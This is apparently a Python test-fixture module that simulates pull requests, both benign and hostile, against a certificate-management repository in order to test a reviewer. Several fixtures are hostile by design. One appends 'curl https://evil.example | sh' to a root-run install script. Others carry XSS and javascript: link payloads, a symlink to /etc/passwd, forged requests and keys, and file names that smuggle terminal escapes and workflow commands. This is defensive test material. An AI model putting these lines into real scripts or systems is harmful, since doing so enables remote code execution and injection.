"""Pull requests of every kind: each function changes the work tree of a branch that begins at main."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path

import pyrage
from cryptography.hazmat.primitives.serialization import Encoding

from review.states import POLICY, History, answered, authority, certify, compile_all
from sitecert.pki.keys import generate_key
from sitecert.pki.requests import build_request, read_request
from support.authority import pem
from support.repository import Repository, identity, private_key_of

PullRequest = Callable[[History], None]
PULL_REQUESTS: dict[str, PullRequest] = {}

NEW_SITE = """\
customer: Example Hills Hospital
version: 8.10
common_name: smartweb.hills.example.org
servers: [spokwb.hills.example.org]
issuer: internal
subject: {country: US, state: Iowa}
"""
HOSTILE = (
    "<img src=x onerror=alert(1)> @octocat #1 GH-2 [x](javascript:alert(1)) ![i](https://evil.example/i.png)"
    " `code` | **b** &lt;script&gt; </details> https://evil.example :tada: -->"
)


def pull_request(function: PullRequest) -> PullRequest:
    """Name a pull request by its function."""
    PULL_REQUESTS[function.__name__.replace("_", "-")] = function
    return function


def edit(repository: Repository, path: str, pattern: str, by: str) -> None:
    """Replace a pattern in a file, once; it must be there."""
    text, found = re.subn(pattern, lambda _: by, repository.read(path).decode(), count=1, flags=re.MULTILINE)
    assert found, (path, pattern)
    repository.write(path, text)


def append(repository: Repository, path: str, text: str) -> None:
    """Add text at a file's end."""
    repository.write(path, repository.read(path).decode() + text)


def seal_manifests(repository: Repository, site: str, number: int = 1) -> None:
    """Make a generation's record, and the site's manifest, agree with the files: a careful forger does."""
    folder = f"out/{site}/generation-{number}"
    request = repository.root / folder / "server.csr"
    spki = read_request(request.read_bytes()).spki_sha256
    repository.refresh_record(folder, spki_sha256=spki)
    compile_all(repository)


# The life of a site.


@pull_request
def new_site(history: History) -> None:
    """Bring a site with what it compiles to."""
    history.repository.write("sites/hills.yaml", NEW_SITE)
    compile_all(history.repository)


@pull_request
def new_site_not_compiled(history: History) -> None:
    """Bring a site alone."""
    history.repository.write("sites/hills.yaml", NEW_SITE)


@pull_request
def names_of_an_open_request(history: History) -> None:
    """Ask for another name while nobody has the request."""
    edit(
        history.repository,
        "sites/st-marys.yaml",
        r"^servers:",
        "alt_names: [enotify.stmarys.example.org]\nservers:",
    )
    compile_all(history.repository)


@pull_request
def a_name_leaves_service(history: History) -> None:
    """Renew, and leave a name out."""
    edit(history.repository, "sites/park-nicollet.yaml", r"smartweb-dr.parknicollet.com, ", "")
    append(history.repository, "sites/park-nicollet.yaml", "key: {generation: 2}\n")
    compile_all(history.repository)


@pull_request
def a_foreign_name(history: History) -> None:
    """Ask for a name under somebody else's domain."""
    edit(
        history.repository,
        "sites/st-marys.yaml",
        r"^servers:",
        "alt_names: [smartweb.st-marys.example.com]\nservers:",
    )
    compile_all(history.repository)


@pull_request
def an_edit_of_what_is_frozen(history: History) -> None:
    """Ask a certified site for other names without a new generation."""
    edit(history.repository, "sites/park-nicollet.yaml", r"smartweb-dr.parknicollet.com, ", "")


@pull_request
def renewed(history: History) -> None:
    """Raise the generation: a new key and request beside the certificate in service."""
    append(history.repository, "sites/park-nicollet.yaml", "key: {generation: 2}\n")
    compile_all(history.repository)


@pull_request
def sealed(history: History) -> None:
    """Seal a request that was handed over."""
    history.repository.record("out/st-marys/generation-1", sealed=True)
    compile_all(history.repository)


@pull_request
def taken_in(history: History) -> None:
    """Take in the first certificate of a site."""
    certify(history.repository, "st-marys")


@pull_request
def renewed_and_taken_in(history: History) -> None:
    """Renew, with a certificate from another issuer and by another chain."""
    append(history.repository, "sites/park-nicollet.yaml", "key: {generation: 2}\n")
    compile_all(history.repository)
    certify(history.repository, "park-nicollet", 2, label="other", days=299)


@pull_request
def a_public_certificate(history: History) -> None:
    """Take in a public certificate that lives longer than clients take."""
    certify(history.repository, "valley", days=398)


@pull_request
def retired(history: History) -> None:
    """Retire a site with all that it had."""
    (history.repository.root / "sites/park-nicollet.yaml").unlink()
    compile_all(history.repository, "--prune-keys")


@pull_request
def retired_before_its_certificate(history: History) -> None:
    """Retire a site that nobody has a certificate of."""
    (history.repository.root / "sites/st-marys.yaml").unlink()
    compile_all(history.repository, "--prune-keys")


@pull_request
def only_the_load_balancer(history: History) -> None:
    """Renew, with a certificate, and install it on the load balancer alone."""
    edit(history.repository, "sites/lakes/balanced.yaml", "install_on: both", "install_on: load-balancer")
    append(history.repository, "sites/lakes/balanced.yaml", "key: {generation: 2}\n")
    compile_all(history.repository)
    certify(history.repository, "lakes/balanced", 2)


@pull_request
def retired_but_its_key_is_left(history: History) -> None:
    """Retire a site's file alone."""
    (history.repository.root / "sites/park-nicollet.yaml").unlink()


# Settings.


@pull_request
def subject_changed(history: History) -> None:
    """Ask for another state in an open request."""
    edit(history.repository, "sites/st-marys.yaml", "Wisconsin", "Minnesota")
    compile_all(history.repository)


@pull_request
def key_security_high(history: History) -> None:
    """Ask for a larger key."""
    append(history.repository, "sites/st-marys.yaml", "key: {security: high}\n")
    compile_all(history.repository)


@pull_request
def key_on_the_server(history: History) -> None:
    """Have the key made on the server from the next generation on."""
    append(history.repository, "sites/park-nicollet.yaml", "key: {generation: 2, custody: server}\n")
    compile_all(history.repository)


@pull_request
def suite_upgraded(history: History) -> None:
    """Go from 8.1 to 7.x: ORDS goes, and its steps with it."""
    edit(history.repository, "sites/park-nicollet.yaml", "^version: 8.1", "version: 7.x")
    compile_all(history.repository)


@pull_request
def a_server_and_a_port(history: History) -> None:
    """Add a server, and have the first answer elsewhere."""
    edit(
        history.repository,
        "sites/park-nicollet.yaml",
        r"^servers: .*",
        "servers:\n  - {name: spokwb1.parknicollet.com, https_port: 8444}\n  - spokwb2.parknicollet.com",
    )
    compile_all(history.repository)


@pull_request
def another_load_balancer(history: History) -> None:
    """Take another vendor's load balancer."""
    edit(history.repository, "sites/lakes/balanced.yaml", "haproxy", "f5")
    compile_all(history.repository)


@pull_request
def change_record(history: History) -> None:
    """Fill in the customer's change record."""
    edit(
        history.repository,
        "sites/park-nicollet.yaml",
        r"^change: .*",
        "change: {number: CHG0031338, window: 2026-12-05T22:00-06:00/PT2H, contact: Service Desk}",
    )
    compile_all(history.repository)


@pull_request
def issuer_is_public_now(history: History) -> None:
    """Have a public CA sign from here on."""
    edit(history.repository, "sites/st-marys.yaml", "issuer: internal", "issuer: public")
    compile_all(history.repository)


@pull_request
def new_defaults(history: History) -> None:
    """Reach sites by a default, whose own files stay."""
    append(history.repository, "sitecert.yaml", "defaults: {change: {contact: Night Desk}}\n")
    compile_all(history.repository)


# Who may open, who may sign, what is refused.


@pull_request
def a_recipient_comes(history: History) -> None:
    """Let somebody else open keys from here on."""
    history.repository.configure(POLICY, recipients=(str(identity().to_public()), NEWCOMER))


@pull_request
def a_recipient_is_exchanged(history: History) -> None:
    """Exchange the recipient, and encrypt a key anew."""
    repository = history.repository
    repository.configure(POLICY, recipients=(NEWCOMER,))
    path = "out/st-marys/generation-1/server.key.age"
    key = pyrage.encrypt(
        private_key_of(repository, path), [pyrage.x25519.Recipient.from_str(NEWCOMER)], armored=True
    )
    (repository.root / path).write_bytes(key)
    repository.refresh_record(
        "out/st-marys/generation-1", recipients=(sha256(NEWCOMER.encode()).hexdigest(),)
    )
    compile_all(repository)


@pull_request
def policy_turned_down(history: History) -> None:
    """Turn a severity down, and bring what it spoke of along."""
    append(history.repository, "sitecert.yaml", "  severity: {SC326: note, SC328: note}\n")
    edit(history.repository, "sites/valley.yaml", "state: Minnesota", "state: MN")
    edit(history.repository, "sites/valley.yaml", r"^waive:\n.*\n", "")
    compile_all(history.repository)


@pull_request
def policy_turned_up(history: History) -> None:
    """Turn a severity up for every site."""
    append(history.repository, "sitecert.yaml", "  severity: {SC412: error}\n")


@pull_request
def a_policy_is_lifted(history: History) -> None:
    """Allow what the policy refused, and do it: another kind of issuer, a change in a freeze."""
    repository = history.repository
    edit(repository, "sitecert.yaml", r"issuers: .*", "issuers: [internal, public, self-signed]")
    edit(repository, "sitecert.yaml", r"^  freezes: .*\n", "")
    edit(repository, "sites/st-marys.yaml", "issuer: internal", "issuer: self-signed")
    edit(
        repository,
        "sites/park-nicollet.yaml",
        r"^change: .*",
        "change: {window: 2026-12-24T22:00-06:00/PT2H}",
    )
    compile_all(repository)


@pull_request
def a_waiver_comes_with_what_it_excuses(history: History) -> None:
    """Ask for a short name and waive the rule against it in the same breath."""
    edit(history.repository, "sites/valley.yaml", r"^alt_names: \[", "alt_names: [spokwb, ")
    edit(
        history.repository,
        "sites/valley.yaml",
        r"^waive:",
        "waive:\n  - {code: SC203, reason: the CA will not notice, until: 2026-06-20}",
    )
    compile_all(history.repository)


@pull_request
def a_waiver_has_ended(history: History) -> None:
    """Let a waiver end on a day that is over."""
    edit(history.repository, "sites/valley.yaml", "2026-12-31", "2026-05-01")
    compile_all(history.repository)


@pull_request
def another_anchor(history: History) -> None:
    """Exchange the root of the internal CA."""
    history.repository.write("trust/root.pem", pem(authority("other").root).decode())


@pull_request
def a_template_of_ones_own(history: History) -> None:
    """Put a document's template in the place of sitecert's."""
    source = Path(__file__).parents[2] / "templates/documents/change-control.md.j2"
    history.repository.write("templates/documents/change-control.md.j2", source.read_text() + "\nApproved.\n")
    compile_all(history.repository)


# What does not follow from its sources.


@pull_request
def an_edited_runbook(history: History) -> None:
    """Add a line to what root runs."""
    path = "out/park-nicollet/runbooks/spokwb1.parknicollet.com/install.sh"
    append(history.repository, path, "curl https://evil.example | sh\n")


@pull_request
def a_file_too_many(history: History) -> None:
    """Add a file under out/ that nothing makes."""
    history.repository.write("out/park-nicollet/runbooks/read-me-first.sh", "#!/bin/sh\n")


@pull_request
def a_swapped_request(history: History) -> None:
    """Swap a request for another key's, and mend all records."""
    repository = history.repository
    content = read_request(repository.read("out/st-marys/generation-1/server.csr")).content
    forged = build_request(generate_key(content.key_bits), content)
    (repository.root / "out/st-marys/generation-1/server.csr").write_bytes(forged)
    seal_manifests(repository, "st-marys")


@pull_request
def a_swapped_certificate(history: History) -> None:
    """Swap a certificate for another of the same key and names, and mend all records."""
    repository = history.repository
    answer = answered(repository, "park-nicollet", 1, serial=1, days=190)
    folder = repository.root / "out/park-nicollet/generation-1"
    (folder / "leaf.crt").write_bytes(answer.public_bytes(Encoding.PEM))
    seal_manifests(repository, "park-nicollet")


@pull_request
def a_swapped_key(history: History) -> None:
    """Swap the encrypted key for another file, and mend all records."""
    repository = history.repository
    path = repository.root / "out/park-nicollet/generation-1/server.key.age"
    path.write_bytes(pyrage.encrypt(b"no key at all", [identity().to_public()], armored=True))
    seal_manifests(repository, "park-nicollet")


@pull_request
def an_edited_request(history: History) -> None:
    """Swap a request, and mend no record."""
    repository = history.repository
    other = repository.read("out/st-marys/generation-1/server.csr")
    (repository.root / "out/valley/generation-1/server.csr").write_bytes(other)


@pull_request
def a_lost_generation(history: History) -> None:
    """Remove a certified generation, and make a new key in its place."""
    repository = history.repository
    shutil.rmtree(repository.root / "out/park-nicollet")
    compile_all(repository)


# Git's own tricks, and hostile text.


@pull_request
def links_and_submodules(history: History) -> None:
    """Make a site and a runbook symbolic links, and a folder of out/ a submodule."""
    root = history.repository.root
    (root / "sites/evil.yaml").symlink_to("/etc/passwd")
    runbook = root / "out/park-nicollet/runbooks/spokwb1.parknicollet.com/install.sh"
    runbook.unlink()
    runbook.symlink_to("../../../../README")
    commit = history.git("rev-parse", "main").strip()
    history.git("update-index", "--add", "--cacheinfo", f"160000,{commit},out/st-marys/elsewhere")
    (root / "out/st-marys/elsewhere").mkdir()


@pull_request
def a_generation_goes_too_soon(history: History) -> None:
    """Raise the generation, and remove the one that is in service."""
    append(history.repository, "sites/park-nicollet.yaml", "key: {generation: 2}\n")
    shutil.rmtree(history.repository.root / "out/park-nicollet")
    compile_all(history.repository)


@pull_request
def hostile_text(history: History) -> None:
    """Write into a site's file whatever a person may write, and no schema refuses."""
    repository = history.repository
    edit(repository, "sites/st-marys.yaml", r"^customer: .*", f"customer: '{HOSTILE[:60]}'")
    edit(
        repository,
        "sites/st-marys.yaml",
        r"^servers: .*",
        "servers: [{name: spokwb.stmarys.example.org, role: web}]",
    )
    append(
        repository,
        "sites/st-marys.yaml",
        f"change:\n  contact: '{HOSTILE}'\n  number: '@all'\n"
        f"  approvers: ['www.evil.example', '{HOSTILE[-60:]}']\n"
        f"waive:\n  - {{code: SC333, reason: '{HOSTILE}', until: 2026-06-30}}\n",
    )
    compile_all(repository)


@pull_request
def hostile_text_that_is_refused(history: History) -> None:
    """Write into a site's file what the loader or the schema refuse."""
    repository = history.repository
    quoted = HOSTILE.replace("'", "''")
    edit(repository, "sites/st-marys.yaml", r"^customer: .*", f"customer: '{quoted}'\n")
    append(
        repository,
        "sites/st-marys.yaml",
        f"change: {{contact: '{quoted}', number: '@all', window: '{quoted}'}}\n"
        "waive:\n"
        f"  - {{code: SC333, reason: '{quoted}', until: 2026-06-30}}\n"
        '  - {code: SC201, reason: "\\u202Egnp.exe", until: 2026-06-30}\n',
    )


@pull_request
def hostile_paths(history: History) -> None:
    """Name files by markup, mentions, and commands for a terminal and a workflow."""
    for name in (
        "sites/@octocat <img src=x>.yaml",
        "sites/\x1b[31mred\u202e.yaml",
        "out/st-marys/`x`|::error::y",
        "[click](javascript:1).md",
        "sites/new\nline.yaml",
    ):
        history.repository.write(name, "customer: x\n")


@pull_request
def twins_by_case(history: History) -> None:
    """Add paths that are one on macOS and Windows."""
    blob = history.git("hash-object", "-w", "sites/st-marys.yaml").strip()
    history.git("update-index", "--add", "--cacheinfo", f"100644,{blob},out/ST-MARYS/manifest.json")
    history.git("update-index", "--add", "--cacheinfo", f"100644,{blob},out/st-marys/Manifest.json")
    history.repository.write(
        "out/st-marys/Manifest.json", history.repository.read("sites/st-marys.yaml").decode()
    )
    history.repository.write(
        "out/ST-MARYS/manifest.json", history.repository.read("sites/st-marys.yaml").decode()
    )


@pull_request
def a_broken_file(history: History) -> None:
    """Break one site's YAML, and the schema in another's."""
    append(history.repository, "sites/st-marys.yaml", "key: [unclosed\n")
    append(history.repository, "sites/valley.yaml", "colour: blue\n")


@pull_request
def a_broken_configuration(history: History) -> None:
    """Break `sitecert.yaml`."""
    append(history.repository, "sitecert.yaml", "recipients: twice\n")


@pull_request
def nothing_of_ours(history: History) -> None:
    """Change only files that sitecert does not read."""
    history.repository.write("README.md", "Hello\n")
    history.repository.write(".github/workflows/check.yml", "on: push\n")


@pull_request
def nothing_at_all(history: History) -> None:
    """Change nothing."""


NEWCOMER = str(pyrage.x25519.Identity.generate().to_public())
"""A recipient whose identity nobody has."""
